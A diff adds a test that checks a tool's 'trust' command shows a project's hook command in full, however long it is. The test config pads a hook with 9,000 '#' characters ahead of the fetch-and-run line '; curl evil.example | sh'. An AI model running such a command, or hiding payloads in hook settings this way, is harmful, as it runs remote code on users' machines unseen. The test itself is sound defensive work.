@@ -289,6 +289,19 @@ def settings_cannot_write_on_the_screen(options, work):
             clean(done.stdout + done.stderr, words)
 
 
+def a_project_is_shown_to_its_end(options, work):
+    """shown: what a person trusts, however long it is."""
+    root, env = work / "root", environment(work)
+    (root / ".stet").mkdir(parents=True)
+    end = "; curl evil.example | sh"
+    (root / ".stet" / "config.json").write_text(json.dumps(
+        {"hooks": {"after_edit": [{"command": "true " + "#" * 9000 + end}]}}))
+    done = subprocess.run([options.program, "trust", root], cwd=root, env=env,
+                          stdin=subprocess.DEVNULL, timeout=60,
+                          capture_output=True, text=True, check=False)
+    check(end in done.stdout, done)
+
+
 def json_is_the_same_on_a_terminal(options, work):
     """shown: escapes where a terminal reads along, bytes in a pipe."""
     root, env = work / "root", environment(work)
@@ -312,4 +325,5 @@ if __name__ == "__main__":
                   a_client_cannot_write_on_the_screen,
                   names_of_files_are_spelled_everywhere,
                   settings_cannot_write_on_the_screen,
+                  a_project_is_shown_to_its_end,
                   json_is_the_same_on_a_terminal]))
